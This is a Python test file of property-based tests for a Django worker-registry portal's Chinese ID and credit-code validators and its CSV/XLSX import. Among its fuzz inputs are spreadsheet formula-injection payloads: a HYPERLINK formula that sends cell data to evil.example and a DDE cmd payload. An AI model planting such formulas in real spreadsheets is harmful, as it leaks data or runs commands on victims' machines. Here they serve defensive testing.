"""Property-based tests (hypothesis) of the identifier validators and of the spreadsheet import.

Validators: every number built with the right check character passes, and yields its birth date and
gender; a decorated copy (full-width, spaces, zero-width characters, lower case) normalises back to it;
any other text is refused with a ValidationError that carries a message, never another exception.

Imports, through portal.spreadsheets.run_import as the admin and the background job call it: random bytes,
truncated and damaged workbooks, hand-made workbook XML, cells of every type (numbers, dates, booleans,
formulas, huge text) and CSV in every encoding Excel writes (UTF-8 with and without BOM, GBK, UTF-16)
end in a FileProblem with a message or in an outcome with per-row errors, never another exception; a
refused file leaves the registry as it was, and an accepted one adds exactly the rows it counts.

The examples are derandomised (the same on every run) and bounded; each runs in a savepoint that is
rolled back, so the examples of one test do not see each other's writes.
"""

import codecs
import csv
import datetime
import io
import re
import string
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from django.utils import translation
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl import Workbook, load_workbook

from portal.models import AuditEvent
from portal.spreadsheets import FileProblem, run_import
from tests.factories import EnterpriseFactory, district
from workers import validators as v
from workers.importers.worker import WorkerImporter
from workers.models import Employment, Worker

TODAY = datetime.date(2025, 6, 1)

# GB 11643-1999 and GB 32100-2015, written out here so that the tests do not trust the code they test.
ID_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
ID_CHECK = "10X98765432"
USCC_WEIGHTS = (1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28)
USCC_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"
ID_PATTERN = re.compile(r"[0-9]{17}[0-9X]")
USCC_PATTERN = re.compile(r"[0-9]{8}[0-9A-HJ-NPQRTUWXY]{10}")

WORKER_HEADERS = ["姓名", "身份证号", "手机号", "银行账号", "企业统一社会信用代码", "职业", "岗位", "学历", "是否工会会员", "入职日期"]  # fmt: skip

# Deterministic, bounded, and without the example database: the same examples on every machine.
QUICK = settings(derandomize=True, deadline=None, database=None, max_examples=300)
IMPORTS = settings(
    derandomize=True,
    deadline=None,
    database=None,
    max_examples=40,
    # The firms fixture is shared by the examples on purpose: each example is rolled back.
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)


def id_check(first17: str) -> str:
    return ID_CHECK[sum(int(d) * w for d, w in zip(first17, ID_WEIGHTS, strict=True)) % 11]


def uscc_check(first17: str) -> str:
    total = sum(USCC_ALPHABET.index(c) * w for c, w in zip(first17, USCC_WEIGHTS, strict=True))
    return USCC_ALPHABET[(31 - total % 31) % 31]


def full_width(char: str) -> str:
    return chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char


def messages_of(error: ValidationError) -> list[str]:
    with translation.override("en"):
        return [str(m) for m in error.messages]


def assert_refusal_explains_itself(error: ValidationError) -> None:
    messages = messages_of(error)
    assert messages and all(m.strip() for m in messages), messages


# --- Strategies ------------------------------------------------------------------------------------------


@st.composite
def id_numbers(draw, *, born_before: datetime.date = TODAY) -> tuple[str, datetime.date, str]:
    """(number, birth date, gender) of a resident ID number with the right check character."""
    area = draw(st.sampled_from(sorted(v.PROVINCE_CODES))) + draw(st.from_regex(r"[0-9]{4}", fullmatch=True))
    birth = draw(st.dates(min_value=datetime.date(1900, 1, 1), max_value=born_before))
    sequence = draw(st.integers(0, 999))
    first17 = f"{area}{birth:%Y%m%d}{sequence:03d}"
    return first17 + id_check(first17), birth, "M" if sequence % 2 else "F"


@st.composite
def credit_codes(draw) -> str:
    first17 = draw(st.from_regex(r"[0-9]{8}", fullmatch=True)) + "".join(
        draw(st.lists(st.sampled_from(USCC_ALPHABET), min_size=9, max_size=9))
    )
    return first17 + uscc_check(first17)


# What survives copying from web pages and Excel: spaces of every width, zero-width characters, a BOM.
SPACING = st.sampled_from([" ", "\u3000", "\t", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\xa0"])


@st.composite
def decorated(draw, value: str, *, dashes: bool = False) -> str:
    """``value`` as a clerk might paste it: full-width characters, spacing between, lower case."""
    out = []
    for char in value:
        if draw(st.booleans()):
            char = char.lower()
        if draw(st.booleans()):
            char = full_width(char)
        out.append(char)
        if draw(st.integers(0, 4)) == 0:
            out.append(draw(SPACING) if not dashes or draw(st.booleans()) else draw(st.sampled_from("-－")))
    return (
        "".join(draw(st.lists(SPACING, max_size=2))) + "".join(out) + draw(st.sampled_from(["", " ", "\n"]))
    )


@st.composite
def near_misses(draw, valid) -> str:
    """A valid value with one character changed, dropped or doubled: the typos clerks make."""
    value = draw(valid)
    value = value[0] if isinstance(value, tuple) else value
    position = draw(st.integers(0, len(value) - 1))
    change = draw(st.sampled_from(["replace", "drop", "double"]))
    if change == "drop":
        return value[:position] + value[position + 1 :]
    if change == "double":
        return value[:position] + value[position] + value[position:]
    return value[:position] + draw(st.characters(codec="utf-8")) + value[position + 1 :]


any_text = st.one_of(
    st.text(),
    st.text(string.digits + "Xx \u3000", max_size=20),
    st.text(string.digits + USCC_ALPHABET + "-", max_size=20),
)


# --- Resident ID numbers ---------------------------------------------------------------------------------


@QUICK
@given(id_numbers())
def test_an_id_number_with_the_right_check_character_is_accepted_with_its_birth_date_and_gender(found):
    number, birth, gender = found
    assert v.validate_id_number(number, today=TODAY) == (birth, gender)


@QUICK
@given(id_numbers(), st.sampled_from("0123456789X"))
def test_any_other_check_character_is_refused(found, check):
    number = found[0]
    if check == number[17]:
        return
    with pytest.raises(ValidationError) as refused:
        v.validate_id_number(number[:17] + check, today=TODAY)
    assert refused.value.code == "checksum"
    assert_refusal_explains_itself(refused.value)


@QUICK
@given(id_numbers().flatmap(lambda found: st.tuples(st.just(found[0]), decorated(found[0]))))
def test_a_decorated_id_number_normalises_back_to_itself(pair):
    number, pasted = pair
    assert v.normalise_id_number(pasted) == number
    assert v.id_number_from_excel(pasted) == number


@QUICK
@given(st.one_of(any_text, near_misses(id_numbers())))
@example("33020619900101123X\u00df")  # ß upper-cases to SS
@example("\u0130" * 18)  # İ: one character, two when lower-cased
def test_any_text_is_refused_with_a_message_or_accepted_as_a_canonical_number(text):
    value = v.normalise_id_number(text)
    try:
        birth, gender = v.validate_id_number(value, today=TODAY)
    except ValidationError as refused:
        assert_refusal_explains_itself(refused)
        return
    # Accepted: exactly a canonical number whose check character fits, and normalising it changes nothing.
    assert ID_PATTERN.fullmatch(value) and value[17] == id_check(value[:17])
    assert v.normalise_id_number(value) == value
    assert gender in ("M", "F") and datetime.date(1900, 1, 1) <= birth <= TODAY


cell_values = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(),
    st.datetimes(),
    any_text,
    near_misses(id_numbers()),
)


@QUICK
@given(cell_values)
@example(330206199001011234.0)  # an ID number Excel stored as a float
@example("3.30206E+17")
@example(330206199001011000)
def test_an_id_number_cell_of_any_type_is_text_or_a_refusal(value):
    try:
        text = v.id_number_from_excel(value)
    except ValidationError as refused:
        assert_refusal_explains_itself(refused)
        return
    assert isinstance(text, str)


# --- Unified social credit codes -------------------------------------------------------------------------


@QUICK
@given(credit_codes())
def test_a_credit_code_with_the_right_check_character_is_accepted(code):
    v.validate_uscc(code)


@QUICK
@given(credit_codes(), st.sampled_from(USCC_ALPHABET))
def test_any_other_credit_code_check_character_is_refused(code, check):
    if check == code[17]:
        return
    with pytest.raises(ValidationError) as refused:
        v.validate_uscc(code[:17] + check)
    assert_refusal_explains_itself(refused.value)


@QUICK
@given(credit_codes().flatmap(lambda code: st.tuples(st.just(code), decorated(code, dashes=True))))
def test_a_decorated_credit_code_normalises_back_to_itself(pair):
    code, pasted = pair
    assert v.normalise_uscc(pasted) == code


@QUICK
@given(st.one_of(any_text, near_misses(credit_codes())))
@example("9133020600000000\u0131X")  # dotless ı upper-cases to I
@example("ǆ" * 18)
def test_any_text_is_refused_with_a_message_or_accepted_as_a_canonical_code(text):
    value = v.normalise_uscc(text)
    try:
        v.validate_uscc(value)
    except ValidationError as refused:
        assert_refusal_explains_itself(refused)
        return
    assert USCC_PATTERN.fullmatch(value) and value[17] == uscc_check(value[:17])
    assert v.normalise_uscc(value) == value


# --- Other values typed into spreadsheets ----------------------------------------------------------------


@QUICK
@given(st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True), st.sampled_from(["", "+86", "0086", "86", "+86 "]))
def test_a_mobile_number_with_country_code_and_separators_normalises_back(number, prefix):
    pasted = prefix + f"{number[:3]}-{number[3:7]} {number[7:]}"
    assert v.normalise_phone(pasted) == number
    v.validate_phone(v.normalise_phone(pasted))


@QUICK
@given(cell_values)
def test_phones_bank_accounts_yes_no_and_dates_are_values_or_refusals(value):
    for check in (
        lambda: v.validate_phone(v.normalise_phone(value)),
        lambda: v.validate_bank_account(v.normalise_bank_account(value)),
        lambda: v.parse_yes_no(value),
        lambda: v.parse_date(value),
    ):
        try:
            check()
        except ValidationError as refused:
            assert_refusal_explains_itself(refused)


@QUICK
@given(st.dates(min_value=datetime.date(1000, 1, 1)))
def test_a_date_in_every_written_form_parses_back(day):
    y, m, d = day.year, day.month, day.day
    for written in (
        day.isoformat(),
        f"{y}/{m}/{d}",
        f"{y}.{m:02d}.{d:02d}",
        f"{y}年{m}月{d}日",
        f"{y:04d}{m:02d}{d:02d}",
        f"{day.isoformat()} 08:30:00",
        "".join(full_width(c) for c in day.isoformat()),
    ):
        assert v.parse_date(written) == day, written
    if day >= datetime.date(1900, 3, 1):
        assert v.parse_date((day - datetime.date(1899, 12, 30)).days) == day


# --- Imports: files that are not what they claim ------------------------------------------------------------


@pytest.fixture
def firms(db):
    return [EnterpriseFactory(district=district("330206")), EnterpriseFactory(district=district("330203"))]


def _counts() -> tuple[int, int, int]:
    return Worker.objects.count(), Employment.objects.count(), AuditEvent.objects.count()


def _tally(label: str) -> None:
    """What the examples ended in, for --hypothesis-show-statistics."""
    if currently_in_test_context():
        event(label)


def import_and_check(content: bytes, name: str):
    """Import ``content`` as the system would; check the promises whatever the file; return the outcome."""
    before = _counts()
    with transaction.atomic():
        try:
            outcome = run_import(WorkerImporter(), io.BytesIO(content), name, write=True)
        except FileProblem as problem:
            _tally("file problem")
            with translation.override("en"):
                assert isinstance(problem.message, str) and problem.message.strip()
            assert _counts() == before, "a refused file wrote something"
            outcome = None
        else:
            _check_outcome(outcome, before)
        transaction.set_rollback(True)
    return outcome


def _check_outcome(outcome, before) -> None:
    workers, employments, audits = _counts()
    _tally("imported" if outcome.committed else "rejected with row errors")
    if outcome.committed:
        assert not outcome.rejected and outcome.bad == 0
        assert (workers, employments, audits) == (
            before[0] + outcome.new,
            before[1] + outcome.new,
            before[2] + 1,
        )
        assert outcome.new + outcome.updated + outcome.unchanged == outcome.total
        return
    # Refused: each bad row named with its column and a message, the registry unchanged.
    assert outcome.rejected and outcome.bad > 0 and outcome.errors
    assert (workers, employments, audits) == before, "a rejected import wrote something"
    for error in outcome.errors:
        assert error.row >= 1 and error.column and str(error.message).strip(), error
    assert outcome.report is not None
    report = load_workbook(outcome.report, read_only=True)
    assert len(list(report.worksheets[0].iter_rows())) >= 2  # the header and at least one bad row
    report.close()


FILE_NAMES = st.sampled_from(["职工.csv", "职工.xlsx", "职工.txt", "职工", "职工.pdf", "职工.xlsm"])
MAGIC = st.sampled_from(
    [b"", b"PK\x03\x04", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, b"\xd0\xcf\x11\xe0"]
)


@IMPORTS
@given(MAGIC, st.binary(max_size=3000), FILE_NAMES)
@example(b"", b"", "职工.csv")
@example(codecs.BOM_UTF16_LE, b"\x00", "职工.csv")  # an odd number of UTF-16 bytes
@example(b"", "姓名,身份证号\r\n".encode() + b"\xff\xfe\x00", "职工.csv")
def test_random_bytes_give_a_file_problem_or_row_errors(firms, magic, content, name):
    import_and_check(magic + content, name)


# --- Imports: CSV with any cells in any encoding ---------------------------------------------------------------


def _valid_row(firm, sequence: int, birth: datetime.date = datetime.date(1995, 3, 10)) -> list[object]:
    first17 = f"230103{birth:%Y%m%d}{sequence:03d}"
    return [
        f"职工{sequence}",
        first17 + id_check(first17),
        f"138{sequence:08d}",
        "",
        firm.credit_code,
        "焊工",
        "",
        "高中",
        "是",
        "2020-03-01",
    ]


FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "=",
        "'=A1",
    ]
)
# What lands in text columns: any text, formulas, huge cells, and numbers, dates and booleans as Excel
# writes them into a CSV.
csv_cells = st.one_of(
    st.text(max_size=30),
    FORMULAS,
    st.builds(lambda n, c: c * n, st.integers(60, 200_000), st.sampled_from(["工", "a", "9", "\u200b"])),
    st.integers().map(str),
    st.floats().map(str),
    st.dates().map(str),
    st.sampled_from(["TRUE", "FALSE", "#N/A", "#VALUE!", "3.30206E+17", "2019/2/30", "1900-02-29"]),
)
ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16", "big5"])


@st.composite
def csv_files(draw, firms) -> bytes:
    rows = [_valid_row(firms[n % 2], n) for n in range(1, draw(st.integers(1, 4)) + 1)]
    for _ in range(draw(st.integers(0, 4))):
        row = draw(st.sampled_from(rows))
        row[draw(st.integers(0, len(row) - 1))] = draw(csv_cells)
    headers = list(WORKER_HEADERS)
    if draw(st.integers(0, 5)) == 0:
        del headers[draw(st.integers(0, len(headers) - 1))]
    delimiter = draw(st.sampled_from([",", "\t", ";"]))
    newline = draw(st.sampled_from(["\r\n", "\n", "\r"]))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(headers)
    writer.writerows(rows)
    encoding = draw(ENCODINGS)
    return buffer.getvalue().encode(encoding, errors="replace")


@IMPORTS
@given(st.data())
def test_a_csv_with_any_cells_in_any_encoding_gives_a_file_problem_or_row_errors(firms, data):
    import_and_check(data.draw(csv_files(firms)), "职工.csv")


def test_a_nul_character_deep_in_a_csv_is_a_file_problem_not_a_database_error(firms):
    # The first 64 KB are checked for NUL up front; PostgreSQL refuses a text value that holds one.
    rows = [_valid_row(firms[0], n) for n in range(1, 1000)]
    rows[-1][0] = "张\x00三"
    content = "\r\n".join(",".join(map(str, row)) for row in [WORKER_HEADERS, *rows]).encode()
    assert content.index(b"\x00") > 64 * 1024
    with translation.override("en"):
        assert import_and_check(content, "职工.csv") is None


def test_a_gbk_csv_with_a_byte_that_is_no_gbk_character_is_a_file_problem(firms):
    content = "\r\n".join(",".join(map(str, r)) for r in [WORKER_HEADERS, _valid_row(firms[0], 1)]).encode(
        "gbk"
    )
    assert import_and_check(content + b"\x81\x20\r\n", "职工.csv") is None


# --- Imports: workbooks with cells of every type -----------------------------------------------------------------

xlsx_cells = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(min_value=datetime.date(1900, 1, 1)),
    st.datetimes(min_value=datetime.datetime(1900, 1, 1)),
    st.text(max_size=30).map(lambda t: "".join(c for c in t if c.isprintable())),
    FORMULAS,
    st.builds(lambda n: "工" * n, st.integers(60, 32_767)),  # up to Excel's limit for one cell
)


@st.composite
def workbooks(draw, firms) -> bytes:
    rows = [_valid_row(firms[n % 2], n) for n in range(1, draw(st.integers(1, 4)) + 1)]
    for _ in range(draw(st.integers(0, 5))):
        row = draw(st.sampled_from(rows))
        row[draw(st.integers(0, len(row) - 1))] = draw(xlsx_cells)
    book = Workbook()
    sheet = book.active
    for _ in range(draw(st.integers(0, 2))):
        # Title rows above the header, as clerks add them.
        sheet.append([draw(st.text(st.characters(categories=("L", "N", "Zs")), max_size=10))])
    sheet.append(WORKER_HEADERS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@IMPORTS
@given(st.data())
def test_a_workbook_with_cells_of_any_type_gives_row_errors_or_imports(firms, data):
    import_and_check(data.draw(workbooks(firms)), "职工.xlsx")


@pytest.fixture
def valid_workbook(firms) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(WORKER_HEADERS)
    for n in range(1, 40):
        sheet.append(_valid_row(firms[n % 2], n))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@IMPORTS
@given(st.data())
def test_a_truncated_or_damaged_workbook_is_a_file_problem(valid_workbook, data):
    content = bytearray(valid_workbook)
    if data.draw(st.booleans(), label="truncate"):
        content = content[: data.draw(st.integers(4, len(content) - 1), label="cut at")]
    else:
        for _ in range(data.draw(st.integers(1, 8), label="flips")):
            content[data.draw(st.integers(30, len(content) - 1))] ^= data.draw(st.integers(1, 255))
    outcome = import_and_check(bytes(content), "职工.xlsx")
    if outcome is not None:
        # A flip that hit nothing the reader uses (or a value it reads as another valid one): no harm.
        assert outcome.total >= 1


# --- Imports: workbooks whose XML says anything --------------------------------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def hand_made_workbook(sheet_rows: str, shared: list[str], *, date1904: bool = False) -> bytes:
    """A minimal workbook as Excel lays it out, with the sheet's <row> elements given as they are."""
    properties = '<workbookPr date1904="1"/>' if date1904 else ""
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{_PKG}"><Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">{properties}<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{_PKG}">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
            f'<Relationship Id="rId3" Type="{_REL}/styles" Target="styles.xml"/></Relationships>'
        ),
        "xl/styles.xml": (
            f'<?xml version="1.0"?><styleSheet xmlns="{_MAIN}"><cellXfs count="2"><xf numFmtId="0"/>'
            '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
        ),
        "xl/sharedStrings.xml": f'<?xml version="1.0"?><sst xmlns="{_MAIN}">'
        + "".join(f"<si><t>{s}</t></si>" for s in shared)
        + "</sst>",
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>{sheet_rows}</sheetData></worksheet>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def _header_row() -> str:
    cells = "".join(f'<c r="{chr(65 + i)}1" t="s"><v>{i}</v></c>' for i in range(len(WORKER_HEADERS)))
    return f'<row r="1">{cells}</row>'


CELL_TYPES = st.sampled_from(
    ["", ' t="n"', ' t="s"', ' t="b"', ' t="d"', ' t="e"', ' t="str"', ' t="inlineStr"', ' t="x"']
)
CELL_VALUES = st.one_of(
    st.sampled_from(
        [
            "0",
            "1",
            "-1",
            "1e308",
            "1e309",
            "NaN",
            "abc",
            "",
            "99999",
            "3.5",
            "2020-01-01",
            "24:00:61",
            "2020-13-45T00:00:00",
        ]
    ),
    st.from_regex(r"[0-9A-Za-z.:+\-]{0,12}", fullmatch=True),
)


@st.composite
def cell_xml(draw, column: int, row: int) -> str:
    kind = draw(CELL_TYPES)
    style = draw(st.sampled_from(["", ' s="1"', ' s="7"']))
    value = draw(CELL_VALUES)
    reference = f' r="{chr(65 + column)}{row}"' if draw(st.integers(0, 5)) else ""
    if kind == ' t="inlineStr"':
        return f"<c{reference}{kind}><is><t>{value}</t></is></c>"
    return f"<c{reference}{kind}{style}><v>{value}</v></c>"


@IMPORTS
@given(st.data())
def test_a_workbook_whose_cells_hold_anything_gives_a_file_problem_or_row_errors(firms, data):
    rows = [_header_row()]
    for number in range(2, data.draw(st.integers(2, 4), label="rows") + 1):
        cells = [data.draw(cell_xml(column, number)) for column in range(len(WORKER_HEADERS))]
        rows.append(f'<row r="{number}">{"".join(cells)}</row>')
    date1904 = data.draw(st.booleans(), label="1904 dates")
    import_and_check(hand_made_workbook("".join(rows), WORKER_HEADERS, date1904=date1904), "职工.xlsx")
